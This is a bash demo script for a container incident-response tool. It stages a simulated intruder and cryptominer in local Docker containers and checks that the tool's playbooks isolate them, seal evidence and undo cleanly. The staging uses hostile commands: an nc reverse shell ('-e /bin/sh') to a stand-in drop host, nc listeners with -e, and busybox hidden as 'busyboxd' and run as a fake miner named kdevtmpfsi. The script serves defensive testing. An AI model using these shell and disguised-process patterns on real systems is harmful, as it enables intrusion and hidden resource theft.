# Sourced by demo.sh --playbook: an intruder with a shell, then a miner, each worked off by its playbook with nobody at the keyboard: what people would
# type stands here. Fails when evidence is not sealed first, when a cut does not hold, when a bystander is harmed, or when undoing leaves a difference.
# shellcheck shell=bash disable=SC2154
need nft:nftables jq:jq nsenter:util-linux ip:iproute2
export CIR_HOME=$work/home CIR_CHANGES=$work/changes CIR_PASSPHRASE=demo-passphrase
fail() { echo "FAILED: $*" >&2; exit 1; }

until_true() { # WHAT COMMAND...: waits until it holds
  local what=$1 tries=0
  shift
  until "$@" >/dev/null 2>&1; do
    [ $((tries += 1)) -le 600 ] || fail "waited a minute for: $what"
    sleep 0.1
  done
}
engine_net() { if [ -n "$ENGINE_PID" ]; then nsenter -t "$ENGINE_PID" -n "$@"; else "$@"; fi; }
inside_net() { nsenter -t "$(docker inspect -f '{{.State.Pid}}' "$1")" -n "${@:2}"; }
beats() { docker exec cir-demo-drop sh -c 'wc -l </tmp/beats'; }
shares() { docker exec cir-demo-drop sh -c 'wc -l </tmp/shares'; }
sales() { docker exec cir-demo-till sh -c 'wc -l </tmp/sales'; }
grows() { # COMMAND: what it counts grows within ten seconds
  local before tries=0
  before=$($1)
  until [ "$($1)" -gt "$before" ]; do [ $((tries += 1)) -le 100 ] || return 1; sleep 0.1; done
}
stands() { local before; before=$($1); sleep 4; [ "$($1)" = "$before" ]; } # four seconds, in which a living flow counts four times
state_of() { # CONTAINER: what a change of ours could touch, without what changes by itself
  echo "## inspect"; docker inspect "$1" | jq -S 'del(.[].ExecIDs)'
  echo "## nft"; engine_net nft -s list ruleset 2>/dev/null
  echo "## links, addresses, routes inside"; inside_net "$1" ip -d link; inside_net "$1" ip addr; inside_net "$1" ip route show table all; inside_net "$1" nft -s list ruleset 2>/dev/null
  echo "## routes of the engine"; engine_net ip route show table all | grep -v fe80 # link-local ones come by themselves, seconds after a start
  echo "## control groups"
  local cgroup
  for cgroup in $(cut -d: -f2- "/proc/$(docker inspect -f '{{.State.Pid}}' "$1")/cgroup" | sed 's/^name=//; s/:/ /' | awk '{print "/sys/fs/cgroup/" $1 $2; print "/sys/fs/cgroup/unified" $2; print "/sys/fs/cgroup" $2}' | sort -u); do
    for file in cpu.cfs_quota_us cpu.max pids.max freezer.state cgroup.freeze memory.limit_in_bytes; do
      [ ! -r "$cgroup/$file" ] || echo "$cgroup/$file $(cat "$cgroup/$file")"
    done
  done
}

begin_run() { # PLAYBOOK CONTAINER CASE: in the background, its questions answered by say_to_run
  asks=$work/run-$3.txt
  mkfifo "$work/answers-$3"
  : >"$asks"
  printf '$ cir playbook run %s %s --case %s\n' "$1" "$2" "$3"
  "$cir" playbook run "$1" "$2" --case "$3" --examiner "Demo Responder" <"$work/answers-$3" >"$asks.out" 2>"$asks" &
  run_pid=$!
  exec 8>"$work/answers-$3"
  shown=0
}
show_run() { # what it said since the last time, without each collector's lines
  local lines
  lines=$(wc -l <"$asks")
  tail -n "+$((shown + 1))" "$asks" | head -n $((lines - shown)) |
    grep -E '^(executed|verified|failed|approved|refused|rolled_back|break_glass|[?!]|  (does|costs|needs)  |Sealed|In force|.*ran to its end|.*ended early)' | cut -c1-180 | sed 's/^/    /' || true
  shown=$lines
}
asked() { kill -0 "$run_pid" 2>/dev/null || { cat "$asks" >&2; fail "the run ended before it asked: $1"; }; grep -qF -- "$1" <(tail -n "+$((shown + 1))" "$asks"; tail -c 200 "$asks"); }
await_question() { until_true "the question '$1'" asked "$1"; show_run; }
say_to_run() { printf '%s\n' "$@" >&8; }
approve_as() { # PERSON: the approver's own key opens with the approver's own passphrase and signs the challenge
  say_to_run "$work/$1/keys" "passphrase-of-$1" yes
}
end_run() {
  exec 8>&-
  local code=0
  wait "$run_pid" || code=$?
  show_run
  [ "$code" = 0 ] || { tail -20 "$asks" >&2; fail "the playbook ended with exit code $code"; }
}
sealed_first() { # CASE STEP: in the case's record the bundles were sealed before that step was executed
  local seal step
  "$cir" timeline "$1" --source playbook --json >"$work/rows-$1.json"
  seal=$(grep -n -m 1 ' seal executed ' "$work/rows-$1.json" | cut -d: -f1)
  step=$(grep -n -m 1 " $2 executed " "$work/rows-$1.json" | cut -d: -f1)
  [ -n "$seal" ] && [ -n "$step" ] && [ "$seal" -lt "$step" ] || fail "the record of $1 does not say that evidence was sealed before '$2'"
  echo "In the record: sealed at row $seal, '$2' at row $step."
}
in_force() { "$cir" status --json | jq -r '.. | objects | select(has("action") and has("id")) | select(.container_name // .containerName | startswith("cir-demo-")) | .id'; }
undo_changes() { # also when the demo ends early: nothing of it stays in force, nor in this host's journal of changes
  local change
  for change in $(in_force 2>/dev/null); do "$cir" undo "$change" --reset-sockets >/dev/null 2>&1 || echo "Change $change is still in force: cir undo $change" >&2; done
  for change in $(grep -l '"container_name": "cir-demo-' /var/lib/containerir/changes/*.json 2>/dev/null); do grep -q '"state": "undone"\|"ended_at": "' "$change" && rm "$change"; done
  rmdir -p --ignore-fail-on-non-empty /var/lib/containerir/changes 2>/dev/null || true
}

say "1. The stage: a shop with an intruder in it, a worker with a miner in it, a till that must go on"
make_images
docker network create --label "$label" cir-demo-net >/dev/null
docker run -d --label "$label" --name cir-demo-drop --network cir-demo-net cir-demo/base:12 sh -c '
  printf "#!/bin/sh\nwhile :; do echo \"echo beat\"; sleep 1; done & cat >>/tmp/beats\n" >/tmp/order; chmod 755 /tmp/order; : >/tmp/beats; : >/tmp/shares
  nc -ll -p 3333 -e sh -c "cat >>/tmp/shares" & exec nc -ll -p 4444 -e /tmp/order' >/dev/null
docker run -d --label "$label" --name cir-demo-till --network cir-demo-net cir-demo/shop:1.4 sh -c ': >/tmp/sales; exec httpd -f -p 8080 -h /srv/shop' >/dev/null
docker run -d --label "$label" --name cir-demo-front --network cir-demo-net cir-demo/base:12 sh -c 'while :; do wget -q -O - http://cir-demo-till:8080/ && echo sold | nc -w 1 cir-demo-till 9 ; sleep 0.5; done' >/dev/null
docker exec -d cir-demo-till sh -c 'nc -ll -p 9 -e sh -c "cat >>/tmp/sales"'
docker run -d --label "$label" --name cir-demo-shop --network cir-demo-net --restart unless-stopped -e DB_PASSWORD=hunter2 cir-demo/shop:1.4 >/dev/null
docker run -d --label "$label" --name cir-demo-worker --network cir-demo-net cir-demo/shop:1.4 >/dev/null
until_true "the till to sell" grows sales
state_of cir-demo-shop >"$work/before"
docker exec -d cir-demo-shop nc cir-demo-drop 4444 -e /bin/sh
docker exec cir-demo-worker sh -c 'mkdir -p /tmp/.x; cp /bin/busybox /tmp/.x/busyboxd'
docker exec -d cir-demo-worker /tmp/.x/busyboxd sh -c 'while :; do echo share; sleep 1; done | nc cir-demo-drop 3333' kdevtmpfsi -o stratum+tcp://cir-demo-drop:3333 -u wallet
until_true "the intruder's shell to answer" grows beats
until_true "the miner to deliver" grows shares
echo "The intruder's shell in cir-demo-shop answers every second; the miner in cir-demo-worker delivers every second; cir-demo-till sells."

say "2. Who may approve: each with a key of their own"
for who in lena olaf; do
  CIR_PASSPHRASE=passphrase-of-$who "$cir" keys new --home "$work/$who" --name "$who" >/dev/null 2>&1
done
"$cir" playbook approvers --add "$work/lena/keys/responder-cert.pem" --role lead >/dev/null
"$cir" playbook approvers --add "$work/olaf/keys/responder-cert.pem" --role owner
run "$cir" triage cir-demo-shop --min-severity medium 2>/dev/null || true

say "3. An intruder is inside: playbook live-intruder"
begin_run live-intruder cir-demo-shop DEMO-2
await_question "delay_cut"
say_to_run false "no order to watch" ""
await_question "Folder with the approver"
grows beats || fail "the intruder's session ended before it was cut"
echo "  (the intruder's session is alive; Lena approves the cut)"
approve_as lena
await_question "way_in"
stands beats || fail "the intruder's session goes on although the container is isolated"
grows sales || fail "the till stands still: the isolation harms a bystander"
echo "  (checked from outside: the session is silent, the till sells)"
say_to_run vulnerable-application ""
await_question "Folder with the approver"
approve_as lena
await_question "Rotate credentials"
say_to_run ""
await_question "Folder with the approver"

say "4. Undone exactly: the isolation and the hold are lifted, nothing is left, the old session stays dead"
run "$cir" status
for change in $(in_force); do
  run "$cir" undo "$change" --reset-sockets || fail "change $change could not be undone"
done
state_of cir-demo-shop >"$work/after"
diff "$work/before" "$work/after" || fail "undoing left a difference"
echo "inspect, nft rules, links, addresses, routes and control groups are as they were before: no difference."
stands beats || fail "the intruder's session came back"
docker exec cir-demo-shop wget -q -O - http://cir-demo-till:8080/ >/dev/null || fail "the released container cannot reach its neighbour"
echo "The old session did not come back; the container reaches its neighbours again."

say "5. The container is stopped by two approvals, and the run ends"
approve_as lena
approve_as olaf
await_question "lessons"
say_to_run "patch the shop by Friday; alert on shells" ""
end_run
sealed_first DEMO-2 kill-session
run "$cir" case check DEMO-2

say "6. A miner: playbook cryptominer"
begin_run cryptominer cir-demo-worker DEMO-3
await_question "Folder with the approver"
approve_as lena
await_question "way_in"
stands shares || fail "the miner delivers although the container is isolated"
grows sales || fail "the till stands still: the isolation harms a bystander"
echo "  (checked from outside: no share arrives, the till sells)"
say_to_run poisoned-image ""
await_question "Folder with the approver"
approve_as lena
approve_as olaf
await_question "Rotate credentials"
say_to_run ""
await_question "lessons"
say_to_run "images by digest only" ""
end_run
sealed_first DEMO-3 stop
[ "$(docker inspect -f '{{.State.Running}}' cir-demo-worker)" = false ] || fail "the miner's container still runs"
run "$cir" case check DEMO-3
for bundle in "$work"/home/cases/DEMO-[23]/bundles/EV-*; do "$cir" verify "$bundle" >/dev/null || fail "$bundle does not verify"; done
echo "$(ls -d "$work"/home/cases/DEMO-[23]/bundles/EV-* | wc -l) bundles of the two runs verify."

say "7. What is still in force on this host, and undone"
"$cir" status
for change in $(in_force); do
  run "$cir" undo "$change" --reset-sockets || fail "change $change could not be undone"
done
"$cir" status

say "What to do next"
cat <<TXT
  On a host of yours:    ./out/cir triage --all
                         ./out/cir playbook list
                         ./out/cir playbook run PLAYBOOK CONTAINER --case CASE-1 --dry-run
  This demo's containers, network, images, cases and keys are removed now.
TXT
